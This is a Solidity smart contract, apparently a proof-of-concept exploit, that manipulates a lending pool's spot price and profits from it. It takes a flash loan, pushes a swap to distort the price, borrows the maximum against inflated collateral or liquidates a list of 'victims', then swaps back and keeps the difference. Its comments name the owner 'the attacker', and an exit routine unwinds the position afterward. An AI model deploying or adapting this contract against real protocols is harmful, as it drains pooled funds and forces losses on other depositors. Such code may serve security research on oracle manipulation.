// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC20Metadata} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Metadata.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {ILendingPool} from "../interfaces/ILendingPool.sol";
import {ISpotPush} from "../interfaces/ISpotPush.sol";
import {IVenueRouter} from "../interfaces/IVenueRouter.sol";

/// @title SpotPush
/// @notice See `ISpotPush`.
contract SpotPush is ISpotPush, Ownable, ReentrancyGuard {
    using SafeERC20 for IERC20;

    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
    uint256 private constant BPS = 10_000;
    uint256 private constant HEADROOM = 1_000_000;

    /// @dev What an attack did, for its event; written by the callback.
    struct Yield {
        uint256 flashFee;
        uint256 borrowed;
        uint256 liquidated;
    }

    Yield private _yield;

    /// @param owner_ The attacker.
    constructor(address owner_) Ownable(owner_) {}

    /* ATTACK */

    /// @inheritdoc ISpotPush
    function push(Push calldata attack) external onlyOwner nonReentrant returns (int256 profit) {
        uint256 available = attack.flashAssets + attack.ownAssets;
        if (attack.pushAssets > available) revert PushTooLarge(attack.pushAssets, available);
        IERC20 loanToken = IERC20(attack.loanAsset);
        delete _yield;
        uint256 balanceBefore = loanToken.balanceOf(address(this));
        _pull(attack.loanAsset, attack.ownAssets);
        _pull(attack.otherAsset, attack.ownCollateral);

        if (attack.flashAssets == 0) {
            _attack(attack);
        } else {
            bytes memory data = abi.encode(attack, balanceBefore);
            IERC3156FlashLender(attack.lender).flashLoan(this, attack.loanAsset, attack.flashAssets, data);
            loanToken.forceApprove(attack.lender, 0);
        }

        uint256 held = loanToken.balanceOf(address(this)) - balanceBefore;
        profit = int256(held) - int256(attack.ownAssets);
        if (profit < attack.minProfit) revert InsufficientProfit(profit, attack.minProfit);
        Yield memory done = _yield;
        emit SpotPushed(
            msg.sender,
            attack.pool,
            attack.loanAsset,
            profit,
            done.flashFee,
            done.borrowed,
            done.liquidated
        );
        loanToken.safeTransfer(msg.sender, held);
    }

    /// @inheritdoc IERC3156FlashBorrower
    /// @dev Open only while `push` runs, and only to the lender that it called.
    function onFlashLoan(
        address initiator,
        address token,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        (Push memory attack, uint256 balanceBefore) = abi.decode(data, (Push, uint256));
        bool expected =
            _reentrancyGuardEntered() &&
                initiator == address(this) &&
                msg.sender == attack.lender &&
                token == attack.loanAsset;
        if (!expected) revert UnexpectedCallback(msg.sender, initiator);

        _yield.flashFee = fee;
        _attack(attack);

        uint256 owed = amount + fee;
        int256 held = int256(IERC20(token).balanceOf(address(this))) - int256(balanceBefore + owed);
        // Without this a lender's refusal would hide by how much the attack fell short.
        if (held < 0) revert InsufficientProfit(held - int256(attack.ownAssets), attack.minProfit);
        IERC20(token).forceApprove(msg.sender, owed);
        return CALLBACK_SUCCESS;
    }

    /// @dev Push, use the market, let go.
    function _attack(Push memory attack) private {
        _swap(attack, attack.loanAsset, attack.route, attack.pushAssets);
        if (attack.supplyAssets != 0) _borrow(attack);
        if (attack.victims.length != 0) _liquidate(attack);
        uint256 left = IERC20(attack.otherAsset).balanceOf(address(this));
        _swap(attack, attack.otherAsset, _reversed(attack.route), left);
    }

    /// @dev Supplies the other asset, borrows all that the pool gives against it and has, and takes back what the
    /// loan does not need: borrowing is bounded by LTV, withdrawing by the liquidation threshold.
    function _borrow(Push memory attack) private {
        ILendingPool pool = ILendingPool(attack.pool);
        uint256 amount = Math.min(attack.supplyAssets, IERC20(attack.otherAsset).balanceOf(address(this)));
        IERC20(attack.otherAsset).forceApprove(attack.pool, amount);
        pool.supply(attack.otherAsset, amount, address(this));
        IERC20(attack.otherAsset).forceApprove(attack.pool, 0);
        uint256 borrowed = _borrowable(pool, attack.loanAsset);
        _yield.borrowed = borrowed;
        if (borrowed != 0) pool.borrow(attack.loanAsset, borrowed);
        uint256 unneeded = _withdrawable(pool, attack.otherAsset);
        if (unneeded != 0) pool.withdraw(attack.otherAsset, unneeded, address(this));
    }

    /// @dev What this contract may still borrow of an asset. Debt rounds up twice on its way into the books and out
    /// of them, by a unit each.
    function _borrowable(ILendingPool pool, address asset) private view returns (uint256) {
        (uint256 collateralBase, uint256 debtBase, uint256 ltvBps, , ) = pool.accountData(address(this));
        uint256 freeBase = Math.saturatingSub((collateralBase * ltvBps) / BPS, debtBase);
        uint256 wholeToken = 10 ** uint256(IERC20Metadata(asset).decimals());
        uint256 worth = Math.mulDiv(freeBase, wholeToken, pool.priceBase(asset));
        return Math.min(Math.saturatingSub(worth, 2), pool.reserveState(asset).cash);
    }

    /// @dev What this contract may withdraw of its collateral with health 1 left, and a millionth for rounding.
    function _withdrawable(ILendingPool pool, address asset) private view returns (uint256) {
        (uint256 collateralBase, uint256 debtBase, , uint256 thresholdBps, ) = pool.accountData(address(this));
        uint256 supplied = pool.supplyBalance(asset, address(this));
        if (debtBase == 0 || collateralBase == 0) return supplied;
        uint256 neededBase = (debtBase * BPS * (HEADROOM + 1)) / (thresholdBps * HEADROOM) + 1;
        return Math.mulDiv(supplied, Math.saturatingSub(collateralBase, neededBase), collateralBase);
    }

    /// @dev Liquidates with the other asset and receives the loan asset.
    function _liquidate(Push memory attack) private {
        IERC20 debtToken = IERC20(attack.otherAsset);
        for (uint256 i = 0; i < attack.victims.length; ++i) {
            uint256 budget = debtToken.balanceOf(address(this));
            if (budget == 0) return;
            debtToken.forceApprove(attack.pool, budget);
            try
                ILendingPool(attack.pool).liquidate(
                    attack.loanAsset,
                    attack.otherAsset,
                    attack.victims[i],
                    budget,
                    false
                )
            {
                _yield.liquidated += 1;
            } catch {}
        }
        debtToken.forceApprove(attack.pool, 0);
    }

    /// @dev No least output: the profit is checked over the whole, in the same transaction.
    function _swap(Push memory attack, address tokenIn, address[] memory route, uint256 amount) private {
        if (amount == 0) return;
        IERC20(tokenIn).forceApprove(attack.router, amount);
        IVenueRouter(attack.router).swapExactIn(route, tokenIn, amount, 0, address(this), block.timestamp);
        IERC20(tokenIn).forceApprove(attack.router, 0);
    }

    function _reversed(address[] memory route) private pure returns (address[] memory back) {
        back = new address[](route.length);
        for (uint256 i = 0; i < route.length; ++i) back[i] = route[route.length - 1 - i];
    }

    function _pull(address token, uint256 amount) private {
        if (amount != 0) IERC20(token).safeTransferFrom(msg.sender, address(this), amount);
    }

    /* AFTERWARDS */

    /// @inheritdoc ISpotPush
    function exit(address pool, address debtAsset, address collateralAsset) external onlyOwner nonReentrant {
        uint256 debt = ILendingPool(pool).debtBalance(debtAsset, address(this));
        if (debt != 0) {
            _pull(debtAsset, debt);
            IERC20(debtAsset).forceApprove(pool, debt);
            ILendingPool(pool).repay(debtAsset, debt, address(this));
        }
        ILendingPool(pool).withdraw(collateralAsset, type(uint256).max, msg.sender);
    }
}
